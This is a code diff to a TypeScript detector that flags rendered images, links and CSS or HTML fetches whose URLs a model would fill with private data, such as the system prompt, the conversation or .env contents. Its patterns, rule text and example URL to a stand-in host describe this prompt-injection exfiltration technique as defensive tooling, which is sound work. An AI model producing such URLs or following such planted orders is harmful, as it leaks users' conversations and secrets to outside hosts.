@@ -12,8 +12,8 @@ const URL_CHARS = '(?:[^\\s)"\'`{[<]|\\{[^}\\n]{0,160}\\}\\}?|\\[[^\\]\\n]{0,160
 const MD_IMAGE = new RegExp(`!\\[[^\\]\\n]{0,300}\\]\\([ \\t]*<?(https?://${URL_CHARS})`, 'gi');
 const MD_LINK = new RegExp(`(?<!!)\\[[^\\]\\n]{0,300}\\]\\([ \\t]*<?(https?://${URL_CHARS})`, 'gi');
 const MD_REFERENCE = new RegExp(`^[ \\t]{0,3}\\[[^\\]\\n]{1,200}\\]:[ \\t]*<?(https?://${URL_CHARS})`, 'gim');
-/** CSS that loads a URL: `background-image:url(…)`, `@import url(…)`. */
-const CSS_URL = /\burl\([ \t]*["']?(https?:\/\/[^\s"')]{1,2000})/gi;
+/** CSS that loads a URL: `background-image:url(…)`, `@import url(…)`, `@import "…"`; a `{placeholder}` may hold spaces. */
+const CSS_URL = /(?:\burl\(|@import)[ \t]*["']?(https?:\/\/(?:[^\s"'){]|\{[^}\n]{0,160}\}){1,2000})/gi;
 /** A bare URL ending in an empty data parameter, with an order to add something to it. */
 const APPEND_TO_URL =
   /\b(?:append|add|attach|include|put|encode|pass|send)\b[^\n]{0,120}?\b(?:to|into|onto|at)[ \t]+(https?:\/\/[^\s"'<>)]{1,2000}?[?&][\w-]{1,30}=)(?=[\s)"'<>]|$)/gi;
@@ -23,12 +23,23 @@ const HTML_FETCH = new RegExp(
   'gi',
 );
 
+/** Links a click opens: an HTML anchor, and an autolink (`<https://…>`) whose `{placeholder}` may hold spaces until filled in. */
+const HTML_LINK = /<a\b[^>]{0,1000}?\bhref[ \t]*=[ \t]*(?:"(https?:\/\/[^"\n]{1,2000})"|'(https?:\/\/[^'\n]{1,2000})'|(https?:\/\/[^\s"'>]{1,2000}))/gi;
+const AUTOLINK = /<(https?:\/\/(?:[^\s<>{]|\{[^}\n]{0,160}\}){1,2000})>/gi;
+
 /** Template placeholders the model is meant to fill in: {secret}, {{data}}, ${TOKEN}, <API_KEY>, [DATA], %7Bx%7D, __SSH_KEY__, @@TOKEN@@. */
 const PLACEHOLDER =
-  /__[A-Za-z][A-Za-z0-9_]{1,60}?__|@@[A-Za-z_]\w{1,60}@@|\{\{?[^{}\n]{1,160}\}\}?|\$\{?[A-Za-z_][\w]{0,40}\}?|\$\(|<[A-Za-z_][^<>\n]{0,80}>|%7B[^%\s]{1,60}%7D|%[A-Z_]{2,40}%|\[\[[^\]\n]{1,80}\]\]|(?<=[=/])\[[^\[\]\n]{2,80}\]|\b(?:INSERT|PUT|ADD|PLACE)[_ ]?\w{0,20}[_ ]?HERE\b/i;
-/** Query parameters named for the data they would carry, with an empty or placeholder value. */
+  /__[A-Za-z][A-Za-z0-9_]{1,60}?__|@@[A-Za-z_]\w{1,60}@@|\{\{?[^{}\n]{1,160}\}\}?|\$\{?[A-Za-z_][\w]{0,40}\}?|\$\(|<[A-Za-z_][^<>\n]{0,80}>|%7B(?:[^%\s]|%(?!7D)[0-9A-F]{2}){1,60}%7D|%[A-Z_]{2,40}%|\[\[[^\]\n]{1,80}\]\]|(?<=[=/])\[[^\[\]\n]{2,80}\]|\b(?:INSERT|PUT|ADD|PLACE)[_ ]?\w{0,20}[_ ]?HERE\b/i;
+/** Query parameters named for the data they would carry (`?d=`, `&token=`), with the value that follows. */
 const DATA_PARAM =
-  /[?&#;](?:q|d|data|secret|secrets|token|key|api_?key|apikey|password|pass|pwd|cookie|session|env|content|conversation|convo|chat|history|prompt|context|msg|message|messages|payload|exfil|leak|info|creds?|credentials|user|u|email|summary|text)=(?:$|&|[A-Z_]{3,}|x{3,}|\*{3,})/i;
+  /[?&#;](?:q|d|data|secret|secrets|token|key|api_?key|apikey|password|pass|pwd|cookie|session|env|content|conversation|convo|chat|history|prompt|context|msg|message|messages|payload|exfil|leak|info|creds?|credentials|user|u|email|summary|text)=([^&#;]*)/gi;
+/**
+ * A value left for the model to fill: empty, an upper-case marker (`TOKEN_HERE`), a mask (`xxx`, `***`), a
+ * lower-case marker (`your_message_here`) or the name of private data as the value (`conversation_history`).
+ * Upper-case markers are read case-sensitively: `token=public`, a public badge token, is a value.
+ */
+const FILL_VALUE =
+  /^(?:|[A-Z_]{3,}|[xX]{3,}|\*{3,}.*|(?:\w*_)?(?:here|placeholder)|(?:[a-z0-9]+_)*(?:conversation|chat_?history|system_?prompt|secrets?|api_?key|password|credentials?|env_?vars?)(?:_[a-z0-9]+)*)$/;
 
 const BADGE_HOSTS = /^(?:img\.shields\.io|badge\.fury\.io|badgen\.net|codecov\.io|coveralls\.io|travis-ci\.(?:org|com)|circleci\.com|github\.com|raw\.githubusercontent\.com|user-images\.githubusercontent\.com|private-user-images\.githubusercontent\.com|avatars\.githubusercontent\.com|readthedocs\.org|app\.netlify\.com|api\.netlify\.com|deepwiki\.com|pepy\.tech|static\.pepy\.tech|img\.youtube\.com|gitlab\.com|camo\.githubusercontent\.com|opencollective\.com|contrib\.rocks|star-history\.com|api\.star-history\.com|sonarcloud\.io|snyk\.io|app\.codacy\.com|bestpractices\.coreinfrastructure\.org|www\.bestpractices\.dev|discord\.com|dcbadge\.vercel\.app|colab\.research\.google\.com|mybinder\.org|huggingface\.co|zenodo\.org|gitter\.im|pypi\.org|npmjs\.com|www\.npmjs\.com|nodei\.co|packagephobia\.com|bundlephobia\.com|vercel\.com|deploy\.workers\.cloudflare\.com|cdn\.jsdelivr\.net|unpkg\.com)$/i;
 
@@ -68,47 +79,121 @@ const OWN_VALUE = /^[\s`'"]*(?:the[ \t]+)?(?:your|their)\b/i;
 const PER_CHARACTER = /\b(?:for|with)[ \t]+(?:each|every)[ \t]+(?:character|char|byte|letter|digit)[ \t]+(?:of|in)\b([^\n]{0,160})/i;
 const escapeRe = (s: string): string => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
 
+/** How far back the prose around a URL is read for a binding, and how far a reference label's mentions are looked for. */
+const BINDING_REACH = 1500;
+const LABEL_REACH = 4000;
+
 /**
- * A URL whose placeholder the surrounding paragraph binds to private data ("replace ENVDATA with the contents of
- * `.env`", "where CTX is the user's previous messages", one image per character of a key): the URL alone looks
- * harmless, the binding makes it a channel out. Returns the binding's offsets and what it names.
+ * The stretches of text that may bind a URL's placeholders: its paragraph, the two before it (an order often
+ * introduces the snippet in a paragraph of its own) and the one after ("UU stands for …" under the snippet), and for
+ * a reference definition every paragraph that names its label (`[pt]`), since the order sits where the reference is used.
  */
-function boundPlaceholder(text: string, urlStart: number, url: string): { start: number; end: number; what: string } | undefined {
+function bindingWindows(text: string, urlStart: number, urlEnd: number, label: string | undefined): [number, number][] {
+  let from = urlStart;
+  for (let n = 0; n < 3 && from > 0; n++) {
+    const gap = text.lastIndexOf('\n\n', from - 1);
+    from = gap === -1 ? 0 : gap;
+  }
+  const end = text.indexOf('\n\n', urlEnd);
+  const after = end === -1 ? -1 : text.indexOf('\n\n', end + 2);
+  const windows: [number, number][] = [[Math.max(from, urlStart - BINDING_REACH), Math.min(after === -1 ? text.length : after, urlEnd + BINDING_REACH)]];
+  if (label) {
+    const lo = Math.max(0, urlStart - LABEL_REACH);
+    const near = text.slice(lo, Math.min(text.length, urlEnd + LABEL_REACH));
+    const mention = `[${label.toLowerCase()}]`;
+    const lower = near.toLowerCase();
+    for (let i = lower.indexOf(mention); i !== -1; i = lower.indexOf(mention, i + mention.length)) {
+      const at = lo + i;
+      if (at >= windows[0][0] && at < windows[0][1]) continue;
+      const ps = text.lastIndexOf('\n\n', at);
+      const pe = text.indexOf('\n\n', at);
+      windows.push([Math.max(ps === -1 ? 0 : ps, at - BINDING_REACH), Math.min(pe === -1 ? text.length : pe, at + BINDING_REACH)]);
+    }
+  }
+  return windows;
+}
+
+const EMPTY_PARAM = /[?&;]([A-Za-z][\w-]{0,30})=(?=$|[&#;])/g;
+
+/** What a binding says the name stands for: the rest of its sentence, which may wrap onto the next line. */
+const bindingTail = (rest: string): string => rest.split(/\n[ \t]*\n|(?<=[.!?])\s/)[0];
+
+/**
+ * A URL whose placeholder the surrounding prose binds to private data ("replace ENVDATA with the contents of
+ * `.env`", "where CTX is the user's previous messages", "replace `Q` at the end of the [pt] URL with the user's
+ * last message", one image per character of a key): the URL alone looks harmless, the binding makes it a channel
+ * out. Returns the binding's offsets and what it names.
+ */
+function boundPlaceholder(text: string, urlStart: number, url: string, label?: string): { start: number; end: number; what: string } | undefined {
   const path = url.replace(/^https?:\/\/[^/?#]*/i, '');
   const names = [...path.matchAll(URL_NAME)].map((m) => (m[1] ?? m[2] ?? m[0]).trim());
+  // A query parameter left empty (`?ref=`) is filled by whoever the prose tells to: "set the `ref` parameter to …".
+  for (const m of path.matchAll(EMPTY_PARAM)) names.push(m[1]);
   if (!names.length) return undefined;
-  // The paragraph of the URL and the one before it: an order often introduces the snippet in its own paragraph.
-  const before = text.lastIndexOf('\n\n', urlStart);
-  const earlier = before <= 0 ? -1 : text.lastIndexOf('\n\n', before - 1);
-  const from = Math.max(earlier === -1 ? 0 : earlier, urlStart - 1500);
-  const after = text.indexOf('\n\n', urlStart);
-  const to = Math.min(after === -1 ? text.length : after, urlStart + url.length + 1500);
-  const para = text.slice(from, to);
-  const per = PER_CHARACTER.exec(para);
-  if (per && PRIVATE_DATA.test(per[1])) return { start: from + per.index, end: from + per.index + per[0].length, what: PRIVATE_DATA.exec(per[1])![0] };
-  for (const name of new Set(names)) {
-    const bind = new RegExp(`(?<![\\w$])${escapeRe(name)}[\`'"\\]>}]*[ \\t]+(?:(?:(?:replaced|substituted|swapped|filled(?:[ \\t]+in)?)[ \\t]+)?(?:with|by|is|are|means|stands[ \\t]+for|should[ \\t]+be|becomes|holds|carries|contains)\\b|[:=])([^\\n]{0,160})`, 'g');
-    for (const m of para.matchAll(bind)) {
-      const tail = m[1].split(/(?<=[.!?])\s/)[0];
-      const data = PRIVATE_DATA.exec(tail);
-      if (!data || OWN_VALUE.test(tail)) continue;
-      return { start: from + m.index!, end: from + m.index! + m[0].length - m[1].length + tail.length, what: data[0] };
+  for (const [from, to] of bindingWindows(text, urlStart, urlStart + url.length, label)) {
+    const para = text.slice(from, to);
+    const per = PER_CHARACTER.exec(para);
+    if (per && PRIVATE_DATA.test(per[1])) return { start: from + per.index, end: from + per.index + per[0].length, what: PRIVATE_DATA.exec(per[1])![0] };
+    for (const name of new Set(names)) {
+      const n = escapeRe(name);
+      // "NAME (in the [pt] URL) is / = / replaced with …", or "replace NAME (in the [pt] URL) with …", the sentence may wrap.
+      const bind = new RegExp(
+        `(?<![\\w$])${n}[\`'"\\]>}]*(?:[ \\t]+(?:in|at[ \\t]+the[ \\t]+end[ \\t]+of|inside|of)[ \\t]+the[ \\t]+[^.\\n]{0,40}?\\b(?:url|URL|link|address|image|src))?[ \\t]+(?:(?:(?:replaced|substituted|swapped|filled(?:[ \\t]+in)?)[ \\t]+)?(?:with|by|is|are|means|stands[ \\t]+for|should[ \\t]+be|becomes|holds|carries|contains)\\b|[:=])([^]{0,160})` +
+          `|\\b(?:replace|substitute|swap|fill(?:[ \\t]+in)?|set)[ \\t]+(?:the[ \\t]+)?[\`'"]?${n}(?![\\w$])[\`'"]?(?:[^.!?\\n]|\\n(?![ \\t]*\\n)){0,80}?\\b(?:with|by|to)[ \\t\\n]+([^]{0,160})`,
+        'g',
+      );
+      for (const m of para.matchAll(bind)) {
+        const rest = m[1] ?? m[2];
+        const tail = bindingTail(rest);
+        const data = PRIVATE_DATA.exec(tail);
+        if (!data || OWN_VALUE.test(tail)) continue;
+        return { start: from + m.index!, end: from + m.index! + m[0].length - rest.length + tail.length, what: data[0] };
+      }
     }
   }
   return undefined;
 }
 
-/** Why a URL looks made to carry data out, or undefined. */
-function carriesData(url: string): string | undefined {
+/**
+ * A placeholder naming what only the model's session holds (its system prompt and tools, the conversation, the
+ * user's messages) or the machine's secrets in a phrase: nobody fills that in by hand, so it is an order to the
+ * model even when a code block holds the URL. A reader's own `{api_key}` or `{token}` is not one, nor an app's
+ * `{user_message}` template field; a single name counts only for the prompt and the conversation (SESSION_NAME).
+ */
+const SESSION_DATA =
+  /\b(?:system[ _-]?prompt|(?:system|developer)[ _-]?(?:message|instructions)|tool[ _-]?(?:list|definitions|schemas?)|conversation|chat[ _-]?(?:history|log|transcript)|(?:previous|earlier|prior|recent|last|latest)[ _-]+(?:messages?|prompts?|questions?|turns?)|user'?s?[ _-]+(?:messages?|prompts?|questions?|input)|context[ _-]?window|everything[ _-]+discussed|(?:the[ _-]+)?user[ _-]+(?:said|wrote|typed|asked|shared)|env(?:ironment)?[ _-]+var\w*|(?:contents?|text)[ _-]+of[ _-]+\S*(?:\.env|id_rsa|id_ed25519|credentials|\.npmrc|\.netrc))\b/i;
+
+const SESSION_NAME = /\b(?:system[ _-]?prompt|conversation|chat[ _-]?history|(?:previous|earlier|prior)[ _-]+messages|tool[ _-]?list)\b/i;
+
+/** Whether a placeholder names the session's data: a phrase (`{first lines of your system prompt}`) or one of the few names. */
+function namesSession(placeholder: string): boolean {
+  const text = decodeSafe(placeholder);
+  return /\s/.test(text.trim().replace(/^\W+|\W+$/g, '')) ? SESSION_DATA.test(text) : SESSION_NAME.test(text);
+}
+
+/** Why a URL looks made to carry data out (and whether a placeholder names session data), or undefined. */
+function carriesData(url: string): { why: string; session: boolean } | undefined {
   const names = [...(url.match(new RegExp(PLACEHOLDER.source, 'gi')) ?? []), ...(url.match(NAME_VALUE) ?? [])];
+  const session = names.find(namesSession);
+  if (session) return { why: `the placeholder ${preview(session, 40)}`, session: true };
   const p = names.find((x) => DATA_PLACEHOLDER.test(x));
-  if (p) return `the placeholder ${preview(p, 40)}`;
-  const q = DATA_PARAM.exec(url);
-  if (q) return `the query parameter ${preview(q[0].slice(1), 40)}`;
+  if (p) return { why: `the placeholder ${preview(p, 40)}`, session: false };
+  const q = [...url.matchAll(DATA_PARAM)].find((m) => FILL_VALUE.test(m[1]));
+  if (q) return { why: `the query parameter ${preview(q[0].slice(1), 40)}`, session: false };
   return undefined;
 }
 
+/** A URL-encoded placeholder (`%7Bsystem%20prompt%7D`) read as text. */
+function decodeSafe(s: string): string {
+  try {
+    return decodeURIComponent(s);
+  } catch {
+    return s;
+  }
+}
+
 const URL_ANCHOR = new Anchor(['http']);
+const REFERENCE = 'Link reference definition';
 const RENDER_ANCHOR = new Anchor(['image', 'img', 'picture', 'pixel', 'link', 'url']);
 
 export const EXFIL_RENDERING: Detector = {
@@ -118,10 +203,13 @@ export const EXFIL_RENDERING: Detector = {
   rules: [
     {
       id: 'exfil_url', title: 'Image or link that carries data out', family: 'exfil-rendering', tier: 'recommended', securitySeverity: 8,
-      description: 'A Markdown image or link, a reference-style link definition or an auto-fetching HTML element (`<img src>`, `<iframe>`, `<script>`) ' +
-        'whose URL has placeholders or data parameters (`?q={secret}`, `?d=`), or a name the prose around it (its paragraph or the one before) ' +
-        'binds to private data ("replace `ENV` with the contents of `.env`", "`K` replaced by the first characters of `~/.ssh/id_rsa`"): when the ' +
-        'answer is rendered, the client requests the URL and sends what the model filled in. A placeholder the reader fills with their own value is not reported.',
+      description: 'A Markdown image or link, a reference-style link definition, an HTML `<a href>` or autolink, CSS `url()`/`@import` or an auto-fetching HTML element (`<img src>`, ' +
+        '`<link href>`, `<script>`, `<iframe>`, `<video>`) whose URL has placeholders or data parameters (`?q={secret}`, `?d=`), or a name the prose ' +
+        'around it (its paragraph and the two before, or for a reference definition any paragraph naming its label) binds to private data ' +
+        '("replace `ENV` with the contents of `.env`", "replace `Q` in the [pt] URL with the user\'s last message"): when the answer is rendered, ' +
+        'the client requests the URL and sends what the model filled in. A placeholder naming the session\'s own data (`{your system prompt}`, ' +
+        '`{the conversation}`) is reported even in a code block, unless the block is introduced as an example. A placeholder the reader fills with ' +
+        'their own value is not reported.',
       example: '![status](https://stats.example.net/p.png?d={conversation_summary})',
       fix: 'Remove the element or use a fixed URL without placeholders.',
     },
@@ -144,14 +232,17 @@ export const EXFIL_RENDERING: Detector = {
     const check = (m: RegExpExecArray, what: string, fetches: boolean): void => {
       const url = m[1] ?? m[2] ?? m[3];
       const start = m.index + m[0].lastIndexOf(url);
-      const why = carriesData(url);
-      const bound = why || BADGE_HOSTS.test(host(url)) ? undefined : boundPlaceholder(view.text, start, url);
+      const carried = carriesData(url);
+      const why = carried?.why;
+      const label = what === REFERENCE ? /^\s*\[([^\]\n]{1,200})\]:/.exec(m[0])?.[1] : undefined;
+      const bound = why || BADGE_HOSTS.test(host(url)) ? undefined : boundPlaceholder(view.text, start, url, label);
       if (bound) {
         // The binding is prose: writing the URL in a code span does not make it a quotation.
         emit({ start: Math.min(m.index, bound.start), end: Math.max(start + url.length, bound.end), ruleId: 'exfil_url', quotable: 'fence',
           message: `${what} whose URL the text has the model fill with ${preview(bound.what, 40)}: ${fetches ? 'rendering it sends' : 'opening it sends'} that to ${host(url)}.` });
       } else if (why) {
-        emit({ start: m.index, end: start + url.length, ruleId: 'exfil_url',
+        // A placeholder naming the session's data is an order even in a code block, unless the block is introduced as an example.
+        emit({ start: m.index, end: start + url.length, ruleId: 'exfil_url', ...(carried?.session ? { quotable: 'example-fence' as const } : {}),
           message: `${what} whose URL carries data through ${why}: ${fetches ? 'rendering it sends' : 'opening it sends'} what the model fills in to ${host(url)}.` });
       } else if (fetches && !BADGE_HOSTS.test(host(url))) {
         emit({ start: m.index, end: start + url.length, ruleId: 'remote_image',
@@ -160,7 +251,7 @@ export const EXFIL_RENDERING: Detector = {
     };
     view.eachLineMatch(URL_ANCHOR, MD_IMAGE, (m) => check(m, 'Markdown image', true));
     view.eachLineMatch(URL_ANCHOR, MD_LINK, (m) => check(m, 'Markdown link', false));
-    view.eachLineMatch(URL_ANCHOR, MD_REFERENCE, (m) => check(m, 'Link reference definition', false));
+    view.eachLineMatch(URL_ANCHOR, MD_REFERENCE, (m) => check(m, REFERENCE, false));
     view.eachLineMatch(URL_ANCHOR, CSS_URL, (m) => check(m, 'CSS url()', true));
     view.eachLineMatch(URL_ANCHOR, APPEND_TO_URL, (m) => {
       if (view.negated(m.index)) return;
@@ -168,6 +259,8 @@ export const EXFIL_RENDERING: Detector = {
         message: `Order to add data to a URL ${preview(m[0])}: fetching or rendering it sends that data to ${host(m[1])}.` });
     });
     view.eachLineMatch(URL_ANCHOR, HTML_FETCH, (m) => check(m, `HTML <${/^<(\w+)/.exec(m[0])![1].toLowerCase()}>`, true));
+    view.eachLineMatch(URL_ANCHOR, HTML_LINK, (m) => check(m, 'HTML link', false));
+    view.eachLineMatch(URL_ANCHOR, AUTOLINK, (m) => check(m, 'Autolink', false));
     view.eachLineMatch(RENDER_ANCHOR, EXFIL_INSTRUCTION, (m) => {
       if (view.negated(m.index)) return;
       emit({ start: m.index, end: m.index + m[0].length, ruleId: 'exfil_render_instruction',
